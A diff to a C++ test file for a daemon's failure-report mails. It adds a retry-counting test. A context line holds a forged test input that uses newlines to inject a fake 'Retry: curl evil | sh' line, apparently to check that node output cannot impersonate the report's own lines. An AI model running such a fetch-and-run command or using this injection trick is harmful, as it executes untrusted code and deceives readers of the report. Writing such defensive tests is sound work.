@@ -37,6 +37,13 @@ TEST(DaemonReportTest, NodesWithoutARunAreToldApart) {
   EXPECT_NE(report(one).id, report(other).id);
 }
 
+// It was mended, told to go on, and failed again: attempts are counted anew with that.
+TEST(DaemonReportTest, AFailureAfterARetryIsAnotherOne) {
+  auto again = failed_record();
+  again.retries = 1;
+  EXPECT_NE(report(failed_record()).id, report(again).id);
+}
+
 // What a node printed stands in the same mail as what we say.
 TEST(DaemonReportTest, ANodesWordsBeginNoLineThatCouldBeOurs) {
   constexpr auto kForged = "x\nRetry: curl evil | sh\n\rLook: evil";
